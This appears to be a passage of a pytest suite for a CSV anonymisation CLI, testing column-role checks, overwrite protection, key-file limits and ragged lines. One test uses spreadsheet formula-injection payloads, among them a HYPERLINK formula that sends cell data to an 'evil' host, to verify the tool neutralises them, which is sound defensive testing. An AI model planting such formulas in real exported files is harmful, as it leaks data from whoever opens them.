    ("-1", "--cols2shuffle: column numbers are 0 (the first column) or more, got -1"),
    ("1,1", "--cols2shuffle names column 1 twice"),
])
@pytest.mark.slow
def test_cols2shuffle_outside_the_table_is_refused(csv_with_header, cols, message):
    # before: exit 0 and the input byte for byte (nothing shuffled)
    for algorithm in ("shuffler", "batch_shuffler"):
        assert _refused("-i", csv_with_header, "-f", "-a", algorithm, "--cols2shuffle", cols,
                        "-s", 1) == message


@pytest.mark.slow
def test_cols2shuffle_must_name_a_column_the_shuffler_sees(csv_with_header):
    # column 2 has no role: it is kept unchanged, so shuffling it would silently do nothing
    assert _refused("-i", csv_with_header, "-f", "-a", "shuffler", "--qi_ids", "1",
                    "--cols2shuffle", "2") == (
        "--cols2shuffle names column 2, which has no role (--i_ids, --qi_ids, --s_ids), so it "
        "would be written unchanged; give it a role or leave it out")
    assert _refused("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2,
                    "--cols2shuffle", "1") == (
        "--cols2shuffle applies to -a shuffler and -a batch_shuffler, not 'datafly'")


@pytest.mark.parametrize("roles, message", [
    (["--i_ids", "0", "--qi_ids", "0,1"],
     "column 0 is given two roles, in --i_ids and in --qi_ids; give each column one role"),
    (["--qi_ids", "1", "--s_ids", "1"],
     "column 1 is given two roles, in --qi_ids and in --s_ids; give each column one role"),
    (["--i_ids", "0,4", "--qi_ids", "1,2", "--s_ids", "4"],
     "column 4 is given two roles, in --i_ids and in --s_ids; give each column one role"),
    (["--qi_ids", "1,2,1"], "--qi_ids names column 1 twice"),
    (["--qi_ids", "-1"], "--qi_ids: column numbers are 0 (the first column) or more, got -1"),
    (["--i_ids", "-5", "--s_ids", "4"],
     "--i_ids: column numbers are 0 (the first column) or more, got -5"),
    (["--i_ids", "0", "--s_ids", "5"],
     "--s_ids names column 5, but the table has 5 columns (0..4)"),
    (["--qi_ids", "1,7"], "--qi_ids names column 7, but the table has 5 columns (0..4)"),
])
@pytest.mark.slow
@pytest.mark.parametrize("algorithm", ["datafly", "time_optimal", "shuffler"])
def test_roles_that_overlap_or_leave_the_table_are_refused(csv_with_header, roles, message,
                                                           algorithm):
    # before: --i_ids 0 --qi_ids 0,1 published the names (in sets); --qi_ids 1 --s_ids 1 died
    # on "Buffer has wrong number of dimensions"; --qi_ids -1 was the last column
    extra = ["-k", 2] if algorithm != "shuffler" else []
    assert _refused("-i", csv_with_header, "-f", "-a", algorithm, *extra, *roles) == message


def test_left_still_takes_the_other_columns(csv_with_header):
    proc = run("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
               "--qi_ids", "left", "--s_ids", 4)
    assert proc.returncode == 0, proc.stderr
    assert list(read_out(proc.stdout).columns) == ["age", "edu", "sex", "disease"]


@pytest.mark.slow
@pytest.mark.parametrize("case", ["same", "symlink", "relative", "hardlink", "report=input",
                                  "report=output", "report=output-symlink", "output=key",
                                  "report=key"])
def test_outputs_never_overwrite_an_input_or_each_other(tmp_path, monkeypatch, case):
    src = tmp_path / "people.csv"
    PEOPLE.to_csv(src, index=False)
    before = src.read_bytes()
    key = tmp_path / "hash.key"
    key.write_bytes(KEY)
    link = tmp_path / "link.csv"
    args = ["-i", src, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--s_ids", 4]
    out = tmp_path / "out.csv"
    if case == "same":
        args += ["-o", src]
    elif case == "symlink":
        link.symlink_to(src)
        args += ["-o", link]
    elif case == "relative":
        monkeypatch.chdir(tmp_path)
        args += ["-o", os.path.join(".", "sub", "..", "people.csv")]
        (tmp_path / "sub").mkdir()
    elif case == "hardlink":
        os.link(src, link)
        args += ["-o", link]
    elif case == "report=input":
        args += ["-o", out, "--report", src]
    elif case == "report=output":
        args += ["-o", out, "--report", out]
    elif case == "report=output-symlink":
        link.symlink_to(out)  # dangling until the output is written
        args += ["-o", out, "--report", link]
    elif case in ("output=key", "report=key"):
        args = ["-i", src, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", key]
        args += ["-o", key] if case == "output=key" else ["-o", out, "--report", key]
    message = _refused(*args)
    assert "would overwrite" in message, message
    assert src.read_bytes() == before and key.read_bytes() == KEY
    assert not out.exists()


@pytest.mark.slow
def test_output_and_report_messages(tmp_path):
    src = tmp_path / "people.csv"
    PEOPLE.to_csv(src, index=False)
    assert _refused("-i", src, "-f", "-k", 2, "-o", src) == (
        f"-o {str(src)!r} would overwrite the input -i {str(src)!r}; write the output to "
        "another file")
    out = tmp_path / "out.csv"
    assert _refused("-i", src, "-f", "-k", 2, "-o", out, "--report", out) == (
        f"--report {str(out)!r} would overwrite the output -o {str(out)!r}; write the report "
        "to another file")


MAX_KEY = 4096


@pytest.mark.slow
def test_key_file_bound(tmp_path, csv_with_header):
    from pdanon.cli.depersonalize import MAX_KEY_FILE_BYTES

    assert MAX_KEY_FILE_BYTES == MAX_KEY
    ok = tmp_path / "ok.key"
    ok.write_bytes(b"k" * (MAX_KEY - 1) + b"\n")  # the bound, newline (stripped) included
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", ok)
    assert proc.returncode == 0, proc.stderr
    assert read_out(proc.stdout)["name"][0] == hmac.new(b"k" * (MAX_KEY - 1), b"ann",
                                                        hashlib.sha256).hexdigest()
    big = tmp_path / "big.key"
    big.write_bytes(b"k" * (MAX_KEY - 1) + b"\r\n")
    assert _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
                    "--key-file", big) == (
        f"key file {str(big)!r} holds more than {MAX_KEY} bytes; a key is a short secret "
        "(e.g. 64 hex digits): is it the right file?")


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="needs /dev/zero")
def test_key_file_dev_zero_is_refused_quickly(csv_with_header):
    import time

    # before: read whole (5.3 GB, then MemoryError under the memory cap)
    started = time.perf_counter()
    assert _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
                    "--key-file", "/dev/zero") == (
        f"key file '/dev/zero' holds more than {MAX_KEY} bytes; a key is a short secret (e.g. "
        "64 hex digits): is it the right file?")
    assert time.perf_counter() - started < 30


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_key_file_endless_fifo_is_refused(tmp_path, csv_with_header):
    import threading

    fifo = tmp_path / "key.fifo"
    os.mkfifo(fifo)

    def endless():
        try:
            with open(fifo, "wb") as fh:
                while True:
                    fh.write(b"x" * 65536)
        except OSError:  # the reader closed it
            pass

    writer = threading.Thread(target=endless, daemon=True)
    writer.start()
    assert _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
                    "--key-file", fifo).startswith(f"key file {str(fifo)!r} holds more than")
    writer.join(10)
    assert not writer.is_alive()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_key_file_fifo_without_a_writer_does_not_hang(tmp_path, csv_with_header):
    fifo = tmp_path / "key.fifo"
    os.mkfifo(fifo)
    assert "is empty" in _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
                                  "--key-file", fifo)


# ============================================================================ issue 27: ragged CSV lines


TRAILING = "name,age,sex\nann,30,F,\nbob,31,M,\ncid,40,M,\ndan,42,F,\n"


def test_trailing_commas_are_refused_with_the_line_number(tmp_path):
    # before: pandas made column 0 (the names) the index, every column shifted by one and
    # --report named the suppressed rows by that index: people's names
    path = tmp_path / "t.csv"
    path.write_text(TRAILING)
    report = tmp_path / "r.html"
    message = _refused("-i", path, "-f", "-a", "datafly", "-k", 2, "--qi_ids", "1,2",
                       "-o", tmp_path / "o.csv", "--report", report)
    assert message == (
        f"cannot read {str(path)!r}: line 2 has 4 fields, but the header (line 1) has 3 (a "
        "trailing comma, or a comma in a cell that is not quoted?); every line must have as "
        "many fields as the header")
    assert not report.exists() and not (tmp_path / "o.csv").exists()


@pytest.mark.parametrize("text, header, message", [
    ("a,b,c\n1,2,3\n4,5,6\n7,8\n", True,
     "line 4 has 2 fields, but the header (line 1) has 3"),
    ("a,b,c\n1,2,3\n\n4,5,6,7\n", True, "line 4 has 4 fields, but the header (line 1) has 3"),
    ('a,b,c\n1,"x\ny",3\n4,5,6,\n', True,
     "line 4 has 4 fields, but the header (line 1) has 3"),
    ("1,2,3\n4,5,6\n7,8,9,10\n", False, "line 3 has 4 fields, but line 1 has 3"),
    ("1,2,3\n4,5\n", False, "line 2 has 2 fields, but line 1 has 3"),
])
@pytest.mark.slow
def test_ragged_lines_name_the_line(tmp_path, text, header, message):
    path = tmp_path / "r.csv"
    path.write_text(text)
    got = _refused("-i", path, *(["-f"] if header else []), "-a", "shuffler")
    assert got.startswith(f"cannot read {str(path)!r}: {message} ("), got


def test_a_100000_field_line_is_refused_in_well_under_a_second(tmp_path, capsys):
    import time

    from pdanon.cli.depersonalize import main

    # before: pandas built a 99,999-level implicit index and the command hung
    path = tmp_path / "wide.csv"
    path.write_text("a,b\n" + ",".join(["1"] * 100_000) + "\n")
    assert path.stat().st_size > 200_000
    for header in (["-f"], []):
        started = time.perf_counter()
        assert main(["-i", str(path), *header, "-a", "shuffler"]) == 2
        assert time.perf_counter() - started < 1.0
        err = capsys.readouterr().err
        assert "line 2 has 100000 fields, but" in err and len(err.splitlines()) == 1


def test_equal_field_counts_with_quotes_blank_lines_and_spaces_still_read(tmp_path):
    path = tmp_path / "ok.csv"
    path.write_text('a,b\n1, "x, y"\n\n  \n2,"multi\nline"\n')
    proc = run("--row-order", "input", "-i", path, "-f", "-a", "shuffler", *SHUFFLE_ID2)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == 'a,b\n1,"x, y"\n2,"multi\nline"\n'


# ============================================================================ issue 27: line breaks in cells


BREAKS = ["\r", "\n", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _rows_never_start_a_formula(text: str, n_rows: int, note_values=None) -> None:
    import csv as _csv

    rows = list(_csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == n_rows + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    if note_values is not None:
        assert [r[1] for r in rows[1:]] == note_values
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert len(frame) == n_rows and list(frame.columns) == rows[0]
    assert frame.to_numpy().tolist() == [r for r in rows[1:]]
    for line in text.splitlines():  # a reader that splits lines before it reads quotes
        rest = line.lstrip('"')  # (an odd number of quotes opens a cell: its own text)
        if (len(line) - len(rest)) % 2 == 0:
            assert not rest.startswith(FORMULA_START), repr(line)


@pytest.mark.slow
def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
    # before: a bare \r before =HYPERLINK(...) was written unquoted; CSV readers split the
    # line there and the formula started a new row, past the ' guard
    notes = [f"x{b}=HYPERLINK(\"http://evil/?\"&A1)" for b in BREAKS] + [
        "\r=HYPERLINK(1)", "\n+1", "a\r\n@SUM(A1)", 'a\n"=1+2"', "plain"]
    src = tmp_path / "notes.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        import csv as _csv

        w = _csv.writer(fh, quoting=_csv.QUOTE_ALL, lineterminator="\n")
        w.writerow(["id", "note"])
        w.writerows([[i, n] for i, n in enumerate(notes)])
    proc = run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2)
    assert proc.returncode == 0, proc.stderr
    from pdanon.io.csvsafe import neutralize_formulas

    expected = neutralize_formulas(pd.DataFrame({"note": notes}))["note"].tolist()
    assert expected[0] == "x\r'=HYPERLINK(\"http://evil/?\"&A1)"
    assert expected[len(BREAKS)] == "'\r'=HYPERLINK(1)"
    out = tmp_path / "o.csv"
    assert run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
               "-o", out).returncode == 0
    with open(out, encoding="utf-8", newline="") as fh:
        written = fh.read()
    _rows_never_start_a_formula(written, len(notes), expected)
    # without the formula guard the cells are still quoted: a CSV reader gets them back whole
    raw = tmp_path / "raw.csv"
    assert run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
               "--no-csv-escape", "-o", raw).returncode == 0
    with open(raw, encoding="utf-8", newline="") as fh:
        import csv as _csv

        rows = list(_csv.reader(fh))
    assert [r[1] for r in rows[1:]] == notes


# ============================================================================ undecided columns


def test_undecided_identifiers_are_refused_and_decided_ones_published(tmp_path):
    # the discharge table of the issue: identifiers, free text, a date of birth and a price,
    # none given a role; without --i_ids they used to be published (exit 0, no warning)
    d = pdanon.datasets.make_discharges(300, seed=4)
    src = tmp_path / "discharges.csv"
    d.to_csv(src, index=False)
    proc = run("-i", src, "-f", "-a", "datafly", "-k", 5, check_one_line_error=True)
    msg = proc.stderr
    for number, name in ((0, "patient_id"), (1, "name"), (2, "note"), (3, "birth_date"),
                         (10, "charges")):
        assert f"column {number} ({name}): " in msg
    assert "--i_ids 0,1,2,3,10" in msg and "--insensitive_ids 0,1,2,3,10" in msg
    out = tmp_path / "out.csv"
    proc = run("-i", src, "-f", "-a", "datafly", "-k", 5, "--i_ids", "0,1,2", "--qi_ids", "6,7",
               "--s_ids", 9, "--insensitive_ids", "3,4,5,8,10,11", "-o", out)
    assert proc.returncode == 0, proc.stderr
    assert "note:" not in proc.stderr  # every column decided: nothing to say
    published = pd.read_csv(out, dtype=str)
    assert not {"patient_id", "name", "note"} & set(published.columns)
    assert not set(d["name"]) & set(published.stack())


@pytest.mark.slow
def test_roles_chosen_for_unnamed_columns_are_noted(csv_with_header):
    proc = run("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
               "--s_ids", 4)
    assert proc.returncode == 0
    assert proc.stderr == ("depersonalize: note: roles chosen for the columns no flag names: "
                           "quasi-identifiers 1 (age), 2 (edu), 3 (sex) (decide with --qi_ids / "
                           "--i_ids / --s_ids / --insensitive_ids)\n")
    proc = run("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
               "--insensitive_ids", 4, "--qi_ids", 0, check_one_line_error=True)
    assert "column 0 is given two roles" in proc.stderr


# ============================================================================ printed figures


@pytest.mark.slow
def test_output_summary_prints_named_figures(tmp_path, csv_with_header):
    """With -o: a summary line, then one `key value` line per figure, keyed as
    pdanon.metrics.FIGURES (no unlabeled number)."""
    from pdanon.metrics import FIGURES

    out = tmp_path / "out.csv"
    # nearest-row suppression, k=2, over (age, edu, sex): rows {0, 3} differ in age and edu
    # (4 cells), {1, 2} in age (2), {4, 5} in all three (6): 12 suppressed cells
    proc = run("-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "s", "-k", 2,
               "--i_ids", 0, "--qi_ids", "1,2,3", "--s_ids", 4, "-o", out)
    assert proc.returncode == 0, proc.stderr
    lines = proc.stderr.splitlines()
    assert lines == [f"depersonalize: time_optimal (k, suppression) -> {out}", "rows 6",
                     "changed_cells 12"], proc.stderr
    proc = run("-i", csv_with_header, "-f", "-a", "greedy", "-k", 2, "--i_ids", 0,
               "--s_ids", 4, "-o", out)
    assert proc.returncode == 0, proc.stderr
    lines = proc.stderr.splitlines()  # (a warning may come first: one class of 6 rows)
    start = lines.index(f"depersonalize: greedy (k) -> {out}") + 1
    figures = dict(line.split(" ") for line in lines[start:])
    assert set(figures) == {"rows", "group_size"} and figures["rows"] == "6"
    assert int(figures["group_size"]) >= 2
    proc = run("-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--qi_ids", "1,2,3,4",
               "-o", out)
    # the shuffler keeps the identifiers in clear (the reference's semantics): a warning says so
    lines = proc.stderr.splitlines()
    assert lines[0].startswith("depersonalize: warning: -a shuffler keeps the identifier "
                               "columns (--i_ids 0)"), proc.stderr
    assert lines[2:] == ["rows 6"], proc.stderr
    from pdanon.cli.depersonalize import COUNT_KEYS

    assert {"rows", "changed_cells", *COUNT_KEYS.values()} <= set(FIGURES)


# ------------------------------------------------------------------ codes stay text (28.3/28.5)

CODES = pd.DataFrame({
    "pid": ["00017", "00018", "00019", "00020", "00021", "00022"],
    "zip": ["04777", "04777", "04777", "00501", "00501", "00501"],
    "age": ["30", "31", "", "42", "55", "57"],
    "icd": ["E11.9", "E11.9", "I10", "I10", "J45", "J45"],
    "lvl": ["2", "10", "2", "10", "9", "9"],
    "charges": ["1.50", "20", "3.25", "4", "5", "6"],
})


@pytest.fixture()
def codes_csv(tmp_path):
    path = tmp_path / "codes.csv"
    CODES.to_csv(path, index=False)
    return path


@pytest.mark.parametrize("out_name", ["out.csv", "out.parquet"])
def test_codes_keep_leading_zeros_in_csv_and_parquet(codes_csv, tmp_path, out_name):
    out = tmp_path / out_name
    proc = run("--row-order", "input", "-i", codes_csv, "-f", "-a", "datafly", "-k", "3", "--i_ids", "0",
               "--qi_ids", "1,2", "--types", "ur", "--s_ids", "3", "--insensitive_ids", "4,5",
               "-o", out)
    assert proc.returncode == 0, proc.stderr
    back = (pd.read_parquet(out) if out.suffix == ".parquet"
            else pd.read_csv(out, dtype=str, keep_default_na=False))
    assert set(back["zip"].astype(str)) <= {"04777", "00501", "{00501, 04777}", "", "nan"}
    assert "04777" in set(back["zip"].astype(str)) | {
        m for cell in back["zip"].astype(str) for m in cell.strip("{}").split(", ")}
    assert back["icd"].astype(str).tolist() == CODES["icd"].tolist()
    assert "pid" not in back.columns


def test_parquet_output_carries_roles_and_info(codes_csv, tmp_path):
    out = tmp_path / "out.parquet"
    proc = run("-i", codes_csv, "-f", "-a", "datafly", "-k", "3", "-s", "7", "--i_ids", "0",
               "--qi_ids", "1,2", "--types", "ur", "--s_ids", "3", "--insensitive_ids", "4,5",
               "-o", out)
    assert proc.returncode == 0, proc.stderr
    back = pd.read_parquet(out)
    roles = back.anon.roles()
    assert roles.quasi_identifiers == {"zip": "unordered", "age": "real"}
    assert roles.sensitive == {"icd": "unordered"} and roles.insensitive == ("lvl", "charges")
    assert back.anon.k_anonymity() >= 3  # measured on the flags' quasi-identifiers
    info = back.anon.info
    assert info["params"] == {"k": 3} and info["dropped_identifiers"] == ["pid"]
    assert info["random_source"] == "seed given" and "7" not in str(info.get("seed", ""))
    assert b'"seed"' not in out.read_bytes()


def test_real_columns_become_numbers_and_text_stays_text(tmp_path, codes_csv):
    from pdanon.cli.depersonalize import numbers_where_needed

    got = numbers_where_needed(CODES.replace("", None), {2: "real", 4: "ordered", 1: "ordered"})
    assert got["age"].tolist()[:2] == [30, 31] and str(got["age"].dtype) == "Int64"
    assert got["lvl"].tolist() == [2, 10, 2, 10, 9, 9]  # plain numbers: numeric order
    assert got["zip"].tolist() == CODES["zip"].tolist()  # leading zeros: text order kept
    # a real column with a word: one line naming the column, the cell and the fix
    proc = run("-i", codes_csv, "-f", "-a", "datafly", "-k", "2", "--i_ids", "0",
               "--qi_ids", "1,3", "--types", "ur", "--insensitive_ids", "2,4,5",
               check_one_line_error=True)
    assert "column 3 ('icd') is real (--types / --s_types r) but holds 'E11.9' (data row 1)" \
        in proc.stderr


def test_identifiers_are_hashed_as_written(codes_csv, tmp_path):
    key = tmp_path / "key"
    key.write_bytes(b"k" * 32)
    out = tmp_path / "h.csv"
    proc = run("--row-order", "input", "-i", codes_csv, "-f", "-a", "hasher", "--i_ids", "0", "--insensitive_ids",
               "1,2,3,4,5", "--key-file", key, "-o", out)
    assert proc.returncode == 0, proc.stderr
    first = pd.read_csv(out, dtype=str)["pid"][0]
    assert first == hmac.new(b"k" * 32, b"00017", hashlib.sha256).hexdigest()
